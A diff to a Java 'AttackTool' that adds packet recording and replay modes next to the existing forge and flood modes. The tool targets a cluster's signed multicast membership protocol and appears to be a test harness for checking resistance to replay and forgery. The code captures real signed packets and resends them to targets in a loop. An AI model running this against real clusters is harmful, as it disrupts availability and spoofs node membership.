@@ -31,8 +31,15 @@ import java.util.concurrent.atomic.AtomicLong;
  * <li>{@code flood <ms> <target-ip> <port>}: two threads send, as fast as they can, valid-looking netstring
  * {@code status} packets "from" linux1 with a wrong signature — one thread 64 KB packets, the other ~100 B — each
  * from one of 256 sockets picked at random, so the source port varies all the time.</li>
+ * <li>{@code record <key> <src> <group:port:dev> <file>}: joins the multicast medium and appends every packet of
+ * {@code src} to {@code file} (4-byte length, then the bytes as received) until the file {@code <file>.stop}
+ * exists; prints {@code RECORDED n} with the types seen.</li>
+ * <li>{@code replay <key> <file> <tail> <ms> <target:port>...}: takes the last {@code tail} recorded packets of the
+ * oldest generation recorded (its last words: a status, then its {@code shutdone}) and sends them, unchanged and in
+ * their order, to every target, one every 20 ms, round and round for {@code ms}. The replayed packets carry the cluster's real
+ * signatures: only membership's judgement of the incarnation can refuse them (issue 14 item 2).</li>
  * </ul>
- * Prints one summary line starting with {@code SENT}.
+ * Prints one summary line starting with {@code SENT} (or {@code RECORDED}).
  */
 public final class AttackTool {
 
@@ -40,20 +47,18 @@ public final class AttackTool {
         switch (args[0]) {
             case "forge" -> forge(args[1], args[2], Long.parseLong(args[3]), args[4], List.of(args).subList(5, args.length));
             case "flood" -> flood(Long.parseLong(args[1]), args[2], Integer.parseInt(args[3]));
+            case "record" -> record(args[1], args[2], args[3], java.nio.file.Path.of(args[4]));
+            case "replay" -> replay(args[1], java.nio.file.Path.of(args[2]), Integer.parseInt(args[3]),
+                    Long.parseLong(args[4]), List.of(args).subList(5, args.length));
             default -> throw new IllegalArgumentException("mode " + args[0]);
         }
     }
 
     private static void forge(String key, String src, long ms, String listen, List<String> targets) throws Exception {
         PacketCodec reader = new PacketCodec(() -> AuthKeys.single(1, AuthMethod.SHA1, key));
-        String[] l = listen.split(":");
         Message seen = null;
         byte[] seenPacket = null;
-        try (java.net.MulticastSocket socket = new java.net.MulticastSocket(null)) {
-            socket.setReuseAddress(true);
-            socket.bind(new InetSocketAddress(Integer.parseInt(l[1])));
-            socket.joinGroup(new InetSocketAddress(l[0], 0), java.net.NetworkInterface.getByName(l[2]));
-            socket.setSoTimeout(200);
+        try (java.net.MulticastSocket socket = joined(listen)) {
             byte[] buf = new byte[65536];
             long end = System.currentTimeMillis() + 30_000;
             while (seen == null && System.currentTimeMillis() < end) {
@@ -91,6 +96,83 @@ public final class AttackTool {
             System.out.println("SENT " + sent + " forged shutdone of " + src + " (hg " + seen.get("hg").orElseThrow()
                     + ", seq from " + seen.get("seq").orElseThrow() + ") signed with crc index 2");
         }
+    }
+
+    private static void record(String key, String src, String listen, java.nio.file.Path file) throws Exception {
+        PacketCodec reader = new PacketCodec(() -> AuthKeys.single(1, AuthMethod.SHA1, key));
+        java.nio.file.Path stop = file.resolveSibling(file.getFileName() + ".stop");
+        java.util.Map<String, Integer> types = new java.util.TreeMap<>();
+        int n = 0;
+        try (java.net.MulticastSocket socket = joined(listen);
+             java.io.DataOutputStream out = new java.io.DataOutputStream(new java.io.BufferedOutputStream(
+                     java.nio.file.Files.newOutputStream(file)))) {
+            byte[] buf = new byte[65536];
+            System.out.println("LISTENING");
+            while (!java.nio.file.Files.exists(stop)) {
+                DatagramPacket p = new DatagramPacket(buf, buf.length);
+                try {
+                    socket.receive(p);
+                } catch (SocketTimeoutException e) {
+                    continue;
+                }
+                byte[] data = java.util.Arrays.copyOf(p.getData(), p.getLength());
+                // the key only reads what travels in clear anyway (src, t, hg, seq)
+                if (reader.decode(data) instanceof Decoded.Accepted a && a.message().get("src").orElse("").equals(src)) {
+                    out.writeInt(data.length);
+                    out.write(data);
+                    out.flush();
+                    n++;
+                    types.merge(a.message().type() + "@" + a.message().get("hg").orElse("?"), 1, Integer::sum);
+                }
+            }
+        }
+        System.out.println("RECORDED " + n + " packets of " + src + " " + types);
+    }
+
+    private static void replay(String key, java.nio.file.Path file, int tail, long ms, List<String> targets)
+            throws Exception {
+        PacketCodec reader = new PacketCodec(() -> AuthKeys.single(1, AuthMethod.SHA1, key));
+        List<byte[]> all = new ArrayList<>();
+        List<String> hg = new ArrayList<>();
+        List<String> what = new ArrayList<>();
+        try (java.io.DataInputStream in = new java.io.DataInputStream(new java.io.BufferedInputStream(
+                java.nio.file.Files.newInputStream(file)))) {
+            while (in.available() > 0) {
+                byte[] b = new byte[in.readInt()];
+                in.readFully(b);
+                Message m = ((Decoded.Accepted) reader.decode(b)).message(); // read in clear: hg, t, seq
+                all.add(b);
+                hg.add(m.get("hg").orElse(""));
+                what.add(m.type() + "@" + m.get("hg").orElse("?") + "/" + m.get("seq").orElse("-"));
+            }
+        }
+        int last = hg.lastIndexOf(hg.isEmpty() ? "" : hg.get(0));
+        List<byte[]> packets = new ArrayList<>();
+        List<String> chosen = new ArrayList<>();
+        for (int i = Math.max(0, last - tail + 1); i <= last && !all.isEmpty(); i++) {
+            packets.add(all.get(i));
+            chosen.add(what.get(i));
+        }
+        long sent = 0;
+        try (DatagramSocket socket = new DatagramSocket()) {
+            long stop = System.currentTimeMillis() + ms;
+            for (int i = 0; !packets.isEmpty() && System.currentTimeMillis() < stop; i = (i + 1) % packets.size()) {
+                sent += sendAll(socket, packets.get(i), targets);
+                Thread.sleep(20);
+            }
+        }
+        System.out.println("SENT " + sent + " replayed packets, round and round: " + chosen);
+    }
+
+    /** A socket on the medium's port that has joined its group ({@code group:port:dev}), reads time out in 200 ms. */
+    private static java.net.MulticastSocket joined(String listen) throws java.io.IOException {
+        String[] l = listen.split(":");
+        java.net.MulticastSocket socket = new java.net.MulticastSocket(null);
+        socket.setReuseAddress(true);
+        socket.bind(new InetSocketAddress(Integer.parseInt(l[1])));
+        socket.joinGroup(new InetSocketAddress(l[0], 0), java.net.NetworkInterface.getByName(l[2]));
+        socket.setSoTimeout(200);
+        return socket;
     }
 
     private static int sendAll(DatagramSocket socket, byte[] packet, List<String> targets) throws java.io.IOException {
